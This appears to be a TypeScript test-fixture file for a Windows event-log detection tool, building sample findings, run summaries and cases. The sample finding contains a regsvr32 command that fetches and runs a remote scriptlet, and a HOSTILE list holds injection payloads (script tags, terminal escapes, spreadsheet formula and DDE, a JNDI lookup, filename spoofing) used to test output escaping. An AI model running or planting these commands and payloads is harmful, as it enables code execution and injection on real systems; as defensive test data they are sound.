import type { Case } from "../../src/model/case.ts";
import type { Finding } from "../../src/model/finding.ts";
import type { RunSummary } from "../../src/outputs/summary.ts";

/** A finding as a scan makes it, with parts replaced. */
export function aFinding(parts: Partial<Finding> = {}): Finding {
  return {
    schema: "whatran/finding/1",
    id: "3f0c9a1be27d44c1",
    time: "2024-05-02T09:14:55.120Z",
    host: "ACCT-07",
    user: "CORP\\m.weber",
    level: "critical",
    score: 93,
    title: "regsvr32 ran a scriptlet from the web",
    binary: {
      name: "regsvr32.exe",
      path: "C:\\Windows\\System32\\regsvr32.exe",
      originalName: "REGSVR32.EXE",
      renamed: false,
      platform: "windows",
      entry: "windows/regsvr32",
    },
    commandLine: "regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll",
    canonical: "regsvr32.exe /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll",
    runs: [{ what: "scriptlet", where: "web", value: "http://203.0.113.9/a.sct", remote: true }],
    fetches: [],
    reads: [{ what: "library", where: "local", value: "scrobj.dll", remote: false }],
    writes: [],
    behaviour: "windows/regsvr32/scriptlet",
    techniques: ["T1218.010"],
    dataComponents: ["Process Creation"],
    evidence: [
      {
        id: "payload/remote",
        points: 34.5,
        text: "The scriptlet comes from another machine.",
        events: [{ file: "logs/acct-07.evtx", recordId: 4711, index: 23 }],
      },
      { id: "behaviour/hostile", points: 41, text: "Setup programs never do this.", events: [] },
      { id: "baseline/known", points: -6.25, text: "regsvr32 runs here every day.", events: [] },
    ],
    source: {
      file: "logs/acct-07.evtx",
      recordId: 4711,
      index: 23,
      eventId: 1,
      channel: "Microsoft-Windows-Sysmon/Operational",
    },
    related: [{ file: "logs/acct-07.evtx", index: 25, recordId: 4713, role: "evidence" }],
    mitigations: ["M1038", "M1050"],
    ...parts,
  };
}

export function aSummary(parts: Partial<RunSummary> = {}): RunSummary {
  return {
    schema: "whatran/summary/1",
    version: "0.1.0",
    catalog: "0123456789ab",
    inputs: [
      {
        file: "logs/acct-07.evtx",
        sha256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        bytes: 1_118_208,
        records: 1412,
        damaged: 0,
        skipped: false,
      },
      {
        file: "logs/notes.docx",
        bytes: 8120,
        records: 0,
        damaged: 0,
        skipped: true,
        reason: "no reader recognises it",
      },
    ],
    records: 1412,
    damaged: 0,
    events: { processCreation: 640, networkConnection: 110 },
    findings: { critical: 1 },
    seconds: 0.42,
    cpuSeconds: 0.4,
    peakMiB: 96,
    ...parts,
  };
}

/** Texts that have broken terminals, spreadsheets, pages and parsers before. */
export const HOSTILE: readonly string[] = [
  "</script><script>alert(1)</script>",
  "<!--<script>",
  "]]><img src=x onerror=alert(1)>",
  "\u001b[2J\u001b]0;owned\u0007",
  "\u009b31mred",
  "txt.\u202eexe.cod",
  "rund\u200bll32\ufeff.exe",
  '=HYPERLINK("http://x/"&A1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3",
  "\uff1d1+1",
  'a,b\r\nc;"d"',
  "\u2028line\u2029paragraph\u0085",
  "\ud800 lone",
  "$\u007bjndi:ldap://x}",
  "\u0000nul",
  "\u{e0041}tag\u{1f3f4}",
  "javascript:alert(1)//",
];

/** A finding whose every free text is hostile. */
export function hostileFinding(text: string, parts: Partial<Finding> = {}): Finding {
  const base = aFinding();
  return {
    ...base,
    host: text,
    user: text,
    title: text,
    binary: { ...base.binary, name: text, path: text },
    commandLine: text,
    canonical: text,
    runs: [{ what: "command", where: "inline", value: text, resolved: text, entry: text, args: [text], remote: true }],
    fetches: [{ what: "script", where: "web", value: text, remote: true }],
    reads: [{ what: "config", where: "local", value: text, remote: false }],
    writes: [{ what: "document", where: "local", value: text, remote: false }],
    evidence: [{ id: "x", points: 3, text, events: [{ file: text, index: 1 }] }],
    source: { file: text, index: 1, channel: text },
    ...parts,
  };
}

/** A case of two findings, whose free texts may be given. */
export function aCase(
  text = "On PC1, on 2024-05-02 (UTC): 10:00:00 a.exe runs. 10:00:01 b.exe runs.",
  parts: Partial<Case> = {},
): Case {
  return {
    schema: "whatran/case/1",
    id: "c1",
    host: text,
    start: "2024-05-02T10:00:00.000Z",
    end: "2024-05-02T10:00:01.000Z",
    level: "critical",
    score: 97,
    title: text,
    text,
    techniques: ["T1218.010"],
    tree: [{ image: text, children: [{ commandLine: text, findings: ["a", "b"] }] }],
    findings: ["a", "b"],
    linked: [],
    cures: [text],
    ...parts,
  };
}
